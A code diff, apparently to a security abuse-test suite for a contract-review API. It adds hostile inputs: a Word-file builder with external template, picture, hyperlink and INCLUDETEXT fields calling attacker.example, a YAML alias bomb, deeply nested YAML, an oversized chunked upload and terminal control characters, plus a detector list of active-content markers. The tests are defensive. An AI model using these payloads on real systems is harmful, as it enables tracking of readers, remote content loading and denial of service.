@@ -15,7 +15,9 @@ from __future__ import annotations
 
 import io
 import json
+import select
 import socket
+import sqlite3
 import statistics
 import threading
 import time
@@ -68,6 +70,97 @@ def word_file_with(body: bytes) -> bytes:
     return out.getvalue()
 
 
+_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+#: (id, type, target, external) of the relationships :func:`active_word_file` adds to the body.
+_ACTIVE_RELS = (
+    (
+        "rIdMacro",
+        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
+        "vbaProject.bin",
+        False,
+    ),
+    ("rIdPicture", f"{_REL}/image", "http://attacker.example/pixel.png", True),
+    ("rIdLink", f"{_REL}/hyperlink", "http://attacker.example/track", True),
+)
+_HIDDEN_RELS = (
+    ("rIdChunk", f"{_REL}/aFChunk", "afchunk.htm", False),
+    ("rIdSub", f"{_REL}/subDocument", "http://attacker.example/part.docx", True),
+)
+
+
+def active_word_file(clauses: list[str], *, hidden: bool = False) -> bytes:
+    """A Word file of ``clauses`` (one paragraph each) that also carries what can act or fetch
+    when it is opened: a macro project (``vbaProject.bin``), a remote ``attachedTemplate``, an
+    external picture and hyperlink, an ``INCLUDETEXT`` field (complex, its result "Included
+    text.") and a simple one (result "Simple text."), and ``updateFields``. With ``hidden``, also
+    text Word shows that is not in the body: an ``altChunk`` (an HTML part) and a ``subDoc``."""
+    from xml.sax.saxutils import escape
+
+    def run(text: str) -> str:
+        return f'<w:r><w:t xml:space="preserve">{escape(text)}</w:t></w:r>'
+
+    body = "".join(f"<w:p>{run(clause)}</w:p>" for clause in clauses)
+    body += (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        '<w:r><w:instrText xml:space="preserve"> INCLUDETEXT "http://attacker.example/x.docx" '
+        "</w:instrText></w:r>"
+        '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+        + run("Included text.")
+        + '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+        '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;http://attacker.example/y&quot; ">'
+        + run("Simple text.")
+        + "</w:fldSimple></w:p>"
+        '<w:p><w:hyperlink r:id="rIdLink">' + run("See our terms.") + "</w:hyperlink></w:p>"
+        '<w:p><w:r><w:pict><v:shape style="width:1pt;height:1pt"><v:imagedata r:id="rIdPicture"/>'
+        "</v:shape></w:pict></w:r></w:p>"
+    )
+    rels = list(_ACTIVE_RELS)
+    if hidden:
+        body += '<w:altChunk r:id="rIdChunk"/><w:p><w:subDoc r:id="rIdSub"/></w:p>'
+        rels += list(_HIDDEN_RELS)
+    data = word_file_with(body.encode())
+    out = io.BytesIO()
+    with (
+        zipfile.ZipFile(io.BytesIO(data)) as source,
+        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
+    ):
+        for item in source.infolist():
+            part = source.read(item.filename)
+            if item.filename == "word/_rels/document.xml.rels":
+                added = "".join(
+                    f'<Relationship Id="{rid}" Type="{kind}" Target="{where}"'
+                    + (' TargetMode="External"' if external else "")
+                    + "/>"
+                    for rid, kind, where, external in rels
+                )
+                part = part.replace(b"</Relationships>", added.encode() + b"</Relationships>")
+            elif item.filename == "word/settings.xml":
+                part = part.replace(
+                    b"<w:zoom",
+                    b'<w:attachedTemplate r:id="rIdTemplate"/><w:updateFields w:val="true"/><w:zoom',
+                    1,
+                )
+            elif item.filename == "[Content_Types].xml":
+                extra = (
+                    '<Override PartName="/word/vbaProject.bin" '
+                    'ContentType="application/vnd.ms-office.vbaProject"/>'
+                    '<Default Extension="htm" ContentType="text/html"/>'
+                )
+                part = part.replace(b"</Types>", extra.encode() + b"</Types>")
+            target.writestr(item.filename, part)
+        target.writestr(
+            "word/_rels/settings.xml.rels",
+            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+            f'<Relationship Id="rIdTemplate" Type="{_REL}/attachedTemplate" '
+            'Target="http://attacker.example/template.dotm" TargetMode="External"/></Relationships>',
+        )
+        target.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 not a real macro project")
+        if hidden:
+            target.writestr("word/afchunk.htm", "<html><body><p>Hidden clause Word shows.</p></body></html>")
+    return out.getvalue()
+
+
 def slow_to_draw_pdf(paths: int = 40_000) -> bytes:
     """A one-page PDF with a readable clause (so it is not OCR'd) under ``paths`` crossing vector
     strokes: cheap to store and to read, many CPU seconds to draw (40,000 took over ten)."""
@@ -98,6 +191,89 @@ def status_of_head(url: str, head: str) -> int:
             return int(raw.recv(64).split(b" ")[1])
         except (TimeoutError, IndexError, ValueError):
             return 0
+
+
+def status_of_chunked_upload(url: str, key: str, total: int, chunk: int = 1 << 16) -> Answer:
+    """POST an upload of ``total`` bytes with ``Transfer-Encoding: chunked`` (no size announced)
+    and read the status the server answers with, as soon as it answers; the bytes sent before
+    then are in the text (``sent N``). 0 when the server took every byte and answered nothing."""
+    parts = urlsplit(url)
+    head = (
+        f"POST /v1/contracts HTTP/1.1\r\nHost: {parts.netloc}\r\nAuthorization: Bearer {key}\r\n"
+        "Content-Type: multipart/form-data; boundary=b\r\nTransfer-Encoding: chunked\r\n\r\n"
+    )
+    opening = b'--b\r\nContent-Disposition: form-data; name="file"; filename="huge.txt"\r\n\r\n'
+    piece = b"The Supplier shall deliver the Goods. " * (chunk // 38)
+    sent = 0
+    with socket.create_connection((parts.hostname, parts.port), timeout=30) as raw:
+        raw.sendall(head.encode("latin-1") + b"%x\r\n%s\r\n" % (len(opening), opening))
+        try:
+            while sent < total:
+                raw.sendall(b"%x\r\n%s\r\n" % (len(piece), piece))
+                sent += len(piece)
+                if select.select([raw], [], [], 0)[0]:
+                    break  # the server answered before the end: read it
+        except (BrokenPipeError, ConnectionResetError):
+            pass  # it answered and closed: the answer may still be read
+        try:
+            answer = raw.recv(4096)
+        except (ConnectionResetError, TimeoutError):
+            answer = b""
+    try:
+        return int(answer.split(b" ")[1]), f"sent {sent}"
+    except (IndexError, ValueError):
+        return 0, f"sent {sent}, no answer"
+
+
+def alias_bomb(copies: int = 5_000, width: int = 20_000) -> str:
+    """A playbook of 40 KB whose one anchor, repeated ``copies`` times by aliases, would expand
+    to ``copies * width`` characters (100 MB by default) once serialised."""
+    return (
+        "name: alias-bomb\nversion: '1'\npositions:\n- id: cap\n  clause: Cap on Liability\n"
+        "  standard: {require: present}\n  risk: high\n"
+        f"  examples: [&s {'x' * width}, " + ", ".join(["*s"] * copies) + "]\n"
+    )
+
+
+def deep_playbook(levels: int = 3_000) -> str:
+    """A playbook of about 10 KB nested ``levels`` lists deep."""
+    return "name: deep\nversion: '1'\npositions: " + "[" * levels + "]" * levels + "\n"
+
+
+def largest_playbook(name: str, chars: int = 190_000) -> str:
+    """A valid playbook of about ``chars`` characters (under the 200,000 allowed), written out
+    in full: the most a client may store and have reviewed."""
+    example = "The Supplier's total liability shall not exceed the fees paid in the twelve months. "
+    lines = [f"  - {example}"] * (chars // (len(example) + 5))
+    return (
+        f"name: {name}\nversion: '1'\npositions:\n- id: cap\n  clause: Cap on Liability\n"
+        "  standard: {require: present}\n  risk: high\n  examples:\n" + "\n".join(lines) + "\n"
+    )
+
+
+def positions_of(version: str, risk: str) -> str:
+    """A small playbook ``race`` at ``version`` whose one position has ``risk``."""
+    return (
+        f"name: race\nversion: '{version}'\npositions:\n- id: law\n  clause: Governing Law\n"
+        f"  standard: {{law: [England]}}\n  risk: {risk}\n"
+    )
+
+
+#: What must never be in a redline we hand back: macros, ActiveX, links outside the file,
+#: a remote template, fields that fetch, fields updated on opening.
+_ACTIVE_MARKS = (b"vbaProject", b"activeX", b'TargetMode="External"', b"attachedTemplate", b"INCLUDETEXT")
+
+
+def active_parts(docx: bytes) -> list[str]:
+    """The parts of a Word file that hold active or external content (read with zipfile, not
+    with the product's reader)."""
+    found = []
+    with zipfile.ZipFile(io.BytesIO(docx)) as archive:
+        for name in archive.namelist():
+            data = archive.read(name)
+            if "vbaProject" in name or any(mark in data for mark in _ACTIVE_MARKS) or b"updateFields" in data:
+                found.append(name)
+    return found
 
 
 Answer = tuple[int, str]  # (status, text); a family's own failure (a live formula, a stream that
@@ -132,7 +308,9 @@ def live_formulas(csv_text: str, xlsx: bytes) -> int:
     return live
 
 
-def _families(keys: KeyStore) -> list[Family]:
+def _families(keys: KeyStore, review: str) -> list[Family]:
+    """Every family; ``review``: the id of set-up's finished playbook review (of acme-active and
+    acme-controls), whose redlines two families ask for."""
     slow = word_file_with(b"<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 40_000)
     bomb = word_file_with(b"<w:p/>" * 600_000)
     malformed = word_file_with(b"<w:p><w:r><w:t>unclosed</w:r></w:p>")
@@ -219,6 +397,63 @@ def _families(keys: KeyStore) -> list[Family]:
             problems += marker not in client.get(f"/v1/contracts/{contract}/text").text
         return problems
 
+    def chunked(_client: httpx.Client, url: str, key: str) -> Answer:
+        return status_of_chunked_upload(url, key, 315 * 1024 * 1024)
+
+    def redline(contract: str, author: str) -> Callable[[httpx.Client, str, str], Answer]:
+        """The redline of set-up's review of ``contract``: 200 when it is a Word file with nothing
+        active in it (0 otherwise)."""
+
+        def send(client: httpx.Client, _url: str, _key: str) -> Answer:
+            response = client.get(
+                f"/v1/playbook-reviews/{review}/redline", params={"contract": contract, "author": author}
+            )
+            if response.status_code != 200:
+                return response.status_code, response.text
+            left = active_parts(response.content)
+            return (0 if left else 200), f"active parts left: {left}" if left else ""
+
+        return send
+
+    raced = iter(range(1_000_000))
+
+    def same_version_at_once(client: httpx.Client, _url: str, _key: str) -> Answer:
+        """Two playbooks of one name and version, different positions, sent at once: 201 when
+        one was kept (201) and the other refused (409) and the kept one reads back as sent, 0
+        otherwise."""
+        version = f"race-{next(raced)}"
+        sent = {"low": positions_of(version, "low"), "high": positions_of(version, "high")}
+        with ThreadPoolExecutor(max_workers=2) as pair:
+            answers = dict(
+                zip(
+                    sent,
+                    pair.map(lambda text: client.post("/v1/playbooks", json={"yaml": text}), sent.values()),
+                    strict=True,
+                )
+            )
+        statuses = sorted(a.status_code for a in answers.values())
+        if statuses != [201, 409]:
+            return 0, f"statuses {statuses}"
+        winner = next(risk for risk, answer in answers.items() if answer.status_code == 201)
+        kept = client.get("/v1/playbooks/race", params={"version": version}).json()
+        return (201 if kept["positions"][0]["risk"] == winner else 0), ""
+
+    largest = largest_playbook("largest")
+
+    def largest_allowed(client: httpx.Client, _url: str, _key: str) -> Answer:
+        """The largest playbook allowed: stored, read back, reviewed inline, and the jobs listed.
+        200 when each answers as it should; the text is the largest of the four responses."""
+        answers = [
+            client.post("/v1/playbooks", json={"yaml": largest}),
+            client.get("/v1/playbooks/largest"),
+            client.post("/v1/playbook-reviews", json={"contracts": ["acme-nda"], "yaml": largest}),
+            client.get("/v1/jobs", params={"limit": 1000}),
+        ]
+        wanted = [201, 200, 202, 200]
+        odd = [a.status_code for a, w in zip(answers, wanted, strict=True) if a.status_code != w]
+        biggest = max(answers, key=lambda a: len(a.content)).text
+        return (odd[0] if odd else 200), biggest
+
     multipart = "POST /v1/contracts HTTP/1.1\nHost: {host}\nContent-Type: multipart/form-data; boundary=b\n"
     chat = {
         "model": "clausewise/acme-nda",
@@ -282,11 +517,62 @@ def _families(keys: KeyStore) -> list[Family]:
             lost=mixed_up,
         ),
         Family(
+            "a playbook whose aliases multiply it, stored",
+            frozenset({422}),
+            request("POST", "/v1/playbooks", json={"yaml": alias_bomb()}),
+        ),
+        Family(
+            "a playbook whose aliases multiply it, inline in a review",
+            frozenset({422}),
+            request("POST", "/v1/playbook-reviews", json={"contracts": ["acme-nda"], "yaml": alias_bomb()}),
+        ),
+        Family(
+            "a playbook nested 3,000 deep",
+            frozenset({422}),
+            request("POST", "/v1/playbooks", json={"yaml": deep_playbook()}),
+        ),
+        Family("a 315 MB upload sent chunked", frozenset({413}), chunked),
+        Family(
+            "a Word file with text outside its body",
+            frozenset({422}),
+            upload(
+                active_word_file(["1. The Supplier shall deliver the Goods."], hidden=True), "hidden.docx"
+            ),
+        ),
+        Family(
+            "the redline of a Word file with active content",
+            frozenset({200}),
+            redline("acme-active", "Counsel"),
+        ),
+        Family(
+            "control characters in a redline's author and its contract's title",
+            frozenset({200}),
+            redline("acme-controls", "\x01x\x1b[31m"),
+        ),
+        Family("one playbook version sent twice at once", frozenset({201}), same_version_at_once),
+        Family("the largest playbook allowed, stored, read and reviewed", frozenset({200}), largest_allowed),
+        Family(
             "a queue flood",
             frozenset({202, 429}),
             request("POST", "/v1/checks", json={"contracts": ["acme-nda"], "suite": "nda"}),
         ),
     ]
+
+
+def _clauses(text: bytes) -> list[str]:
+    """The non-empty lines of a text contract, as the paragraphs of a Word file."""
+    return [line.strip() for line in text.decode("utf-8").splitlines() if line.strip()]
+
+
+def largest_job_row(data_dir: Path) -> int:
+    """The most bytes one job takes in the service's job store (its request and result), read
+    from the SQLite file itself."""
+    path = data_dir / "service" / "jobs.sqlite"
+    with sqlite3.connect(f"file:{path}?mode=ro", uri=True) as connection:
+        row = connection.execute(
+            "SELECT MAX(LENGTH(CAST(request AS BLOB)) + COALESCE(LENGTH(CAST(result AS BLOB)), 0)) FROM jobs"
+        ).fetchone()
+    return int(row[0] or 0)
 
 
 def _poster() -> bytes:
@@ -366,10 +652,31 @@ def run(
             theirs = other.post(
                 "/v1/contracts", files={"file": ("beta.txt", nda)}, data={"contract_id": "beta-nda"}
             ).json()["job"]["id"]
-            for client, waited in ((owner, poster), (owner, strokes), (other, theirs)):
+            active = owner.post(
+                "/v1/contracts",
+                files={"file": ("active.docx", active_word_file(_clauses(nda)))},
+                data={"contract_id": "acme-active"},
+            ).json()["job"]["id"]
+            controls = owner.post(
+                "/v1/contracts",
+                files={"file": ("controls.txt", b"\x01\x02\x1b[31mSUPPLY AGREEMENT\n\n" + nda)},
+                data={"contract_id": "acme-controls"},
+            ).json()["job"]["id"]
+            for client, waited in (
+                (owner, poster),
+                (owner, strokes),
+                (other, theirs),
+                (owner, active),
+                (owner, controls),
+            ):
                 ended_job(client, waited, time.monotonic() + JOB_SECONDS)
+            review = owner.post(
+                "/v1/playbook-reviews",
+                json={"contracts": ["acme-active", "acme-controls"], "playbook": "playbook-nda"},
+            ).json()["id"]
+            ended_job(owner, review, time.monotonic() + JOB_SECONDS)
             before = owner.get("/v1/contracts/acme-nda/text").text
-            for family in _families(keys):
+            for family in _families(keys, review):
                 if time.monotonic() > deadline:
                     break
                 progress.stage(f"abuse: {family.name}, {rounds} at {concurrency}")
@@ -390,6 +697,8 @@ def run(
         "rounds": rounds,
         "concurrency": concurrency,
         "families": rows,
+        "largest_response_bytes": max((r["largest_response_bytes"] for r in rows), default=0),
+        "largest_job_row_bytes": largest_job_row(data_dir),
         "unexpected_statuses": sum(r["unexpected"] for r in rows),
         "leaks": sum(r["leaks"] for r in rows),
         "lost": int(before != after) + sum(r["lost"] for r in rows),
@@ -438,6 +747,7 @@ def _one_family(
         "family": family.name,
         "requests": len(answers),
         "statuses": sorted(set(statuses)),
+        "largest_response_bytes": max((len(text.encode("utf-8")) for _, text in answers), default=0),
         "unexpected": sum(status not in family.expected for status in statuses),
         "leaks": len(shown),
         "lost": lost,
